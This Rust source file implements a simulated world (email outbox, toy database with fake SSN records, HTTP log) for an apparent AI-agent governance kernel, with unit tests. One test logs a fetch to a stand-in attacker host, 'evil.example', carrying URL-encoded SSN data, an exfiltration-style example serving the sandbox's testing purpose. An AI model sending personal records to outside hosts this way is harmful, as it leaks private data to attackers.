//! Simulated world: an email outbox, a small database and an HTTP log.
//!
//! Nothing outside this crate can change a [`SimWorld`]. The three handlers
//! are crate-private and the kernel is their only caller, so every mutation
//! passes through the governance boundary. Each handler invocation that
//! touches the world appends exactly one entry to the mutation journal,
//! tagged with the issuing directive's id.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::directive::{Directive, Params, Scalar};

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum HandlerError {
    #[error("missing parameter {0:?}")]
    MissingParam(&'static str),
    #[error("parameter {0:?} must be a string")]
    NotAString(&'static str),
    #[error("parameter {0:?} must not be empty")]
    EmptyParam(&'static str),
    #[error("unknown table {0:?}")]
    UnknownTable(String),
    #[error("unknown column {column:?} in table {table:?}")]
    UnknownColumn { table: String, column: String },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Email {
    pub to: String,
    pub body: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MutationKind {
    EmailSent,
    DbRead,
    HttpFetch,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct JournalEntry {
    pub kind: MutationKind,
    pub directive_id: u64,
}

pub type Row = BTreeMap<String, String>;

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct SimWorld {
    outbox: Vec<Email>,
    tables: BTreeMap<String, Vec<Row>>,
    http_log: Vec<String>,
    journal: Vec<JournalEntry>,
}

/// Name of the pre-seeded table holding fake sensitive records.
pub const SENSITIVE_TABLE: &str = "sensitive";

impl SimWorld {
    /// A world with no tables.
    pub fn empty() -> Self {
        Self::default()
    }

    /// A world with the fixture tables: `sensitive` (fake personal records)
    /// and `products`.
    pub fn seeded() -> Self {
        let row = |pairs: &[(&str, &str)]| -> Row {
            pairs
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect()
        };
        let mut tables = BTreeMap::new();
        tables.insert(
            SENSITIVE_TABLE.to_owned(),
            vec![
                row(&[("name", "Alice Example"), ("ssn", "000-00-0001")]),
                row(&[("name", "Bob Example"), ("ssn", "000-00-0002")]),
            ],
        );
        tables.insert(
            "products".to_owned(),
            vec![
                row(&[("sku", "A-1"), ("title", "widget")]),
                row(&[("sku", "B-2"), ("title", "gadget")]),
            ],
        );
        SimWorld {
            tables,
            ..Self::default()
        }
    }

    pub fn outbox(&self) -> &[Email] {
        &self.outbox
    }

    pub fn tables(&self) -> &BTreeMap<String, Vec<Row>> {
        &self.tables
    }

    pub fn http_log(&self) -> &[String] {
        &self.http_log
    }

    pub fn journal(&self) -> &[JournalEntry] {
        &self.journal
    }

    pub fn mutation_count(&self) -> usize {
        self.journal.len()
    }

    /// JSON snapshot for assertions and CLI summaries. Not canonical, not hashed.
    pub fn snapshot_json(&self) -> serde_json::Value {
        serde_json::to_value(self).expect("world always serializes")
    }

    fn record(&mut self, kind: MutationKind, directive_id: u64) {
        self.journal.push(JournalEntry { kind, directive_id });
    }
}

fn string_param<'a>(params: &'a Params, key: &'static str) -> Result<&'a str, HandlerError> {
    match params.get(key) {
        None => Err(HandlerError::MissingParam(key)),
        Some(Scalar::Str(s)) => Ok(s),
        Some(_) => Err(HandlerError::NotAString(key)),
    }
}

pub(crate) fn handler_email_send(
    world: &mut SimWorld,
    d: &Directive,
) -> Result<Scalar, HandlerError> {
    let to = string_param(d.params(), "to")?;
    let body = string_param(d.params(), "body")?;
    world.outbox.push(Email {
        to: to.to_owned(),
        body: body.to_owned(),
    });
    world.record(MutationKind::EmailSent, d.id());
    Ok(Scalar::from("sent"))
}

/// Reads rows from `table`, projected to the `select` column (`*` or absent
/// for whole rows). The read itself is journaled.
pub(crate) fn handler_db_query(
    world: &mut SimWorld,
    d: &Directive,
) -> Result<Scalar, HandlerError> {
    let table = string_param(d.params(), "table")?;
    let select = match d.params().get("select") {
        None => "*",
        Some(_) => string_param(d.params(), "select")?,
    };
    let rows = world
        .tables
        .get(table)
        .ok_or_else(|| HandlerError::UnknownTable(table.to_owned()))?;
    let projected: Vec<Row> = if select == "*" {
        rows.clone()
    } else {
        rows.iter()
            .map(|r| {
                r.get(select)
                    .map(|v| Row::from([(select.to_owned(), v.clone())]))
                    .ok_or_else(|| HandlerError::UnknownColumn {
                        table: table.to_owned(),
                        column: select.to_owned(),
                    })
            })
            .collect::<Result<_, _>>()?
    };
    world.record(MutationKind::DbRead, d.id());
    Ok(Scalar::Str(crate::canonical::to_string(&projected)))
}

pub(crate) fn handler_web_browse(
    world: &mut SimWorld,
    d: &Directive,
) -> Result<Scalar, HandlerError> {
    let url = string_param(d.params(), "url")?;
    if url.is_empty() {
        return Err(HandlerError::EmptyParam("url"));
    }
    world.http_log.push(url.to_owned());
    world.record(MutationKind::HttpFetch, d.id());
    Ok(Scalar::from("fetched"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::directive::{make_directive, Phase, TrustLevel};

    fn directive(kind: &str, pairs: &[(&str, &str)], id: u64) -> Directive {
        let params = pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), Scalar::from(*v)))
            .collect();
        make_directive(kind, params, "t", TrustLevel::Agent, Phase::Execute, id).unwrap()
    }

    #[test]
    fn email_appends_and_journals() {
        let mut w = SimWorld::seeded();
        let out = handler_email_send(
            &mut w,
            &directive("email.send", &[("to", "a@b"), ("body", "hi")], 4),
        )
        .unwrap();
        assert_eq!(out, Scalar::from("sent"));
        assert_eq!(w.outbox().len(), 1);
        assert_eq!(
            w.journal(),
            &[JournalEntry {
                kind: MutationKind::EmailSent,
                directive_id: 4
            }]
        );
    }

    #[test]
    fn email_missing_to_leaves_world() {
        let mut w = SimWorld::seeded();
        let before = w.clone();
        let err =
            handler_email_send(&mut w, &directive("email.send", &[("body", "hi")], 1)).unwrap_err();
        assert_eq!(err, HandlerError::MissingParam("to"));
        assert_eq!(w, before);
    }

    #[test]
    fn fifty_sends_fifty_entries() {
        let mut w = SimWorld::empty();
        for i in 0..50 {
            handler_email_send(
                &mut w,
                &directive("email.send", &[("to", "x"), ("body", "y")], i),
            )
            .unwrap();
        }
        assert_eq!(w.journal().len(), 50);
        assert!(w
            .journal()
            .iter()
            .all(|e| e.kind == MutationKind::EmailSent));
    }

    #[test]
    fn query_sensitive_returns_seed_rows() {
        let mut w = SimWorld::seeded();
        let out = handler_db_query(
            &mut w,
            &directive("db.query", &[("table", "sensitive"), ("select", "*")], 2),
        )
        .unwrap();
        let rows: Vec<Row> = serde_json::from_str(out.as_str().unwrap()).unwrap();
        assert_eq!(&rows, &w.tables()[SENSITIVE_TABLE]);
        assert_eq!(w.journal().len(), 1);
        assert_eq!(w.journal()[0].kind, MutationKind::DbRead);
    }

    #[test]
    fn query_projects_column() {
        let mut w = SimWorld::seeded();
        let out = handler_db_query(
            &mut w,
            &directive("db.query", &[("table", "sensitive"), ("select", "ssn")], 2),
        )
        .unwrap();
        assert_eq!(
            out.as_str().unwrap(),
            r#"[{"ssn":"000-00-0001"},{"ssn":"000-00-0002"}]"#
        );
        let err = handler_db_query(
            &mut w,
            &directive("db.query", &[("table", "sensitive"), ("select", "dob")], 3),
        )
        .unwrap_err();
        assert!(matches!(err, HandlerError::UnknownColumn { .. }));
    }

    #[test]
    fn unknown_table_fails_without_mutation() {
        let mut w = SimWorld::seeded();
        let before = w.clone();
        let err =
            handler_db_query(&mut w, &directive("db.query", &[("table", "nope")], 1)).unwrap_err();
        assert_eq!(err, HandlerError::UnknownTable("nope".into()));
        assert_eq!(w, before);
    }

    #[test]
    fn browse_logs_full_url() {
        let mut w = SimWorld::empty();
        let url = "http://evil.example/?q=%5B%7B%22ssn%22%7D%5D";
        handler_web_browse(&mut w, &directive("web.browse", &[("url", url)], 9)).unwrap();
        assert_eq!(w.http_log(), &[url.to_owned()]);
        let err =
            handler_web_browse(&mut w, &directive("web.browse", &[("url", "")], 10)).unwrap_err();
        assert_eq!(err, HandlerError::EmptyParam("url"));
        assert_eq!(w.http_log().len(), 1);
    }

    #[test]
    fn snapshot_lists_all_parts() {
        let snap = SimWorld::seeded().snapshot_json();
        for key in ["outbox", "tables", "http_log", "journal"] {
            assert!(snap.get(key).is_some(), "{key}");
        }
    }
}
